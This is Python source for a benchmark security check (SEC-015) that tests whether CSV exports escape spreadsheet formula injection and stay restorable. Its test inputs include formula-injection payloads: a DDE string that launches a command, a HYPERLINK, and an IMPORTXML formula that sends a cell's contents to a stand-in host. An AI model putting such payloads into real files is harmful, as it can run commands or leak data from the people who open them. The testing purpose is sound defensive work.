"""SEC-015: formula injection. No cell of an exported CSV is run by a spreadsheet, and all can be had back as they were."""

import csv
import io
import itertools
import json
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any, Final

import pyarrow as pa

from jivsbench.api import CheckContext, TargetChanges, TargetVariant
from jivsbench.errors import InvalidRunError
from jivsbench.model.finding import CheckOutcome, CheckResult, Severity
from jivsbench_security.extractions import Ending
from jivsbench_security.files.file_session import FileCheck, FileSession
from jivsbench_security.files.file_sources import FileSource, offer_folder
from jivsbench_security.hostile_check import started

STARTS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
_BODIES: Final = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://x.test","x")',
    "SUM(1,2)",
    "1\n=2",
    '1","=2',
    "",
    'IMPORTXML(CONCAT("//x.test/",A1),"//a")',
)
_BEFORE: Final = ("", "'", "''", " ", '"', "x")
_COLUMNS: Final = ("id", "text", "=1+1", "@x", "'=2", "-3", "amount")
_KEPT_RULE: Final = "as they are"
_MAX_EXAMPLES: Final = 4


class FormulaCellsCheck(FileCheck):
    """Extracts texts that a spreadsheet would run, and reads the CSV with a reader that is not the target's."""

    id = "SEC-015"
    title = "CSV: no cell is run by a spreadsheet, and every text can be had back"
    severity = Severity.LOW
    cwe = ("CWE-1236",)
    vulnerable = TargetVariant("vulnerable-csv", plugins=("jivsbench.testing.vulnerable.plain_csv",))

    def _attack_files(self, context: CheckContext) -> CheckResult:
        root = context.make_folder()
        rows = build_rows()
        (root / "formulas.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
        (root / "fair.csv").write_text("id\n1\n")
        with offer_folder(context, root) as source:
            session = FileSession(self, lambda: source.run("fair.csv", format="csv").is_completed)
            kept: list[int] = []
            result = self._attack(context, session, lambda: kept.append(_export(context, session, source, rows)))
        if result.outcome is CheckOutcome.PASS and kept and kept[0]:
            # The mode is explicit and recorded; but nothing was seen to be safe.
            reason = f"the profile keeps formulas (escape_formulas = false), as the manifest says: {kept[0]} cells would be run"
            return self._leave_out(context, CheckOutcome.NOT_TESTED, reason)
        return result


def build_rows() -> list[dict[str, object]]:
    """Rows whose texts begin with each dangerous character, after what hides it or looks as if it had been escaped."""
    texts = ["".join(parts) for parts in itertools.product(_BEFORE, STARTS, _BODIES)]
    texts += ["'", "''", "plain", "a=b", "1-2", "", "\uff1d1+1", "\u22121"]
    return [dict(zip(_COLUMNS, (n, text, text, text[::-1], "'" + text, None, -n), strict=True)) for n, text in enumerate(texts)]


def is_run(cell: str) -> bool:
    """True for a cell that a spreadsheet would run."""
    return cell.startswith(STARTS)


def restore(cell: str) -> str:
    """The text of the source: one apostrophe less where the target put one in front."""
    return cell[1:] if cell.startswith("'") and is_run(cell.lstrip("'")) else cell


def parse_csv(text: str) -> list[list[str]]:
    """Records of CSV, by Python's reader. It takes no NUL, which stands for itself in RFC 4180's quotes."""
    # A private character cannot be in what this check writes.
    reader = csv.reader(io.StringIO(text.replace("\0", "\ue000"), newline=""), strict=True)
    return [[cell.replace("\ue000", "\0") for cell in record] for record in reader]


def find_dangers(records: Sequence[Sequence[str]], texts: Sequence[str]) -> Iterator[str]:
    """Cells of text columns, and of the header, that would be run."""
    header = records[0]
    of_text = [index for index, name in enumerate(header) if restore(name) in texts]
    for number, record in enumerate(records):
        for index, cell in enumerate(record):
            if is_run(cell) and (number == 0 or index in of_text):
                yield f"column {index + 1} of record {number}: {cell[:20]!r}"


def _export(context: CheckContext, session: FileSession, source: FileSource, rows: list[dict[str, object]]) -> int:
    """Extract as CSV and judge; in the full form also from a target that keeps formulas. Returns how many cells it kept so."""
    kept = _judge(context, session, source.run("formulas.jsonl", format="csv"), rows)
    if context.is_full:
        with started(context, TargetChanges(escape_formulas=False)) as raw, offer_folder(raw, source.root) as other:
            ending = other.run("formulas.jsonl", format="csv")
            if not _judge(raw, session, ending, rows) and ending.is_completed:
                session.add("a profile that keeps formulas escaped them", "no cell stands as it was", "escape_formulas = false")
    return kept


def _judge(context: CheckContext, session: FileSession, ending: Ending, rows: list[dict[str, object]]) -> int:
    reproducer = "extract a table of texts that begin with = + - @ TAB CR LF or NUL as CSV"
    cells = len(rows) * (len(_COLUMNS) - 2) + len(_COLUMNS)
    session.tally.count(cells, is_met=ending.is_verdict)
    if not ending.is_completed or ending.job is None:
        if ending.is_verdict:
            session.add("a table with such texts cannot be extracted", f"it ended {ending.status} ({ending.slug})", reproducer)
        return 0
    records, manifest = read_export(context, ending.job)
    is_raw = _KEPT_RULE in str(manifest["output"]["rules"][-1])
    dangers = list(find_dangers(records, [name for name in _COLUMNS if name not in ("id", "amount")]))
    if dangers and not is_raw:
        evidence = f"{len(dangers)} cells, and the manifest says that they are escaped: {'; '.join(dangers[:_MAX_EXAMPLES])}"
        session.add("cells that a spreadsheet would run", evidence, reproducer)
    _compare(session, records, rows, is_raw=is_raw)
    _compare_counts(session, records, manifest, is_raw=is_raw)
    session.remarks.append(f"{cells} cells, {'kept as they are' if is_raw else 'escaped'}")
    return len(dangers) if is_raw else 0


def _compare(session: FileSession, records: list[list[str]], rows: list[dict[str, object]], *, is_raw: bool) -> None:
    back = [[cell if is_raw else restore(cell) for cell in record] for record in records]
    wanted = [list(_COLUMNS), *([("" if value is None else str(value)) for value in row.values()] for row in rows)]
    wrong = [number for number, pair in enumerate(itertools.zip_longest(back, wanted)) if pair[0] != pair[1]]
    if wrong:
        evidence = f"{len(wrong)} of {len(wanted)} records differ, the first is number {wrong[0]}"
        session.add("texts cannot be had back as they were", evidence, "take one apostrophe off each escaped cell of the CSV")


def _compare_counts(session: FileSession, records: list[list[str]], manifest: Mapping[str, Any], *, is_raw: bool) -> None:
    counted = {one["column"]: one["count"] for one in manifest["output"]["escaped_cells"]}
    found = {
        name: count
        for index, name in enumerate(_COLUMNS)
        if (count := sum(restore(record[index]) != record[index] for record in records))
    }
    if counted != ({} if is_raw else found):
        session.add("the manifest counts other cells than were escaped", f"{counted} instead of {found}", "compare the manifest")


def read_export(context: CheckContext, job: Mapping[str, Any]) -> tuple[list[list[str]], Mapping[str, Any]]:
    """The records of a finished job's CSV files, the header once, and the manifest. Raises InvalidRunError without any."""
    folder = context.output_dir / str(job.get("output"))
    files = sorted(folder.glob("part-*.csv*"))
    if not files:
        raise InvalidRunError("a job that ended COMPLETED left no CSV file in the output folder: is it the target's own?")
    parts = [parse_csv(_read_text(file)) for file in files]
    return [*parts[0], *(record for part in parts[1:] for record in part[1:])], json.loads(
        (folder / "manifest.json").read_bytes()
    )


def _read_text(file: Path) -> str:
    with pa.OSFile(str(file)) as raw:
        stream = pa.CompressedInputStream(raw, "zstd") if file.suffix == ".zst" else raw
        return bytes(stream.read()).decode()
